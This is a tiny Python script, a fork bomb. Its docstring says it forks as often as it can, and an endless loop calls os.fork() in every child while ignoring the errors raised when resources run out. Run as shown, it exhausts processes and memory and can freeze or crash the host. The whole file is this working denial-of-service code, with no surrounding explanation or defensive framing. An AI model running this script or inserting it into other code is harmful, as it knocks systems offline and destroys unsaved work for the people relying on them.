"""Forks as often as it can, in every child again."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
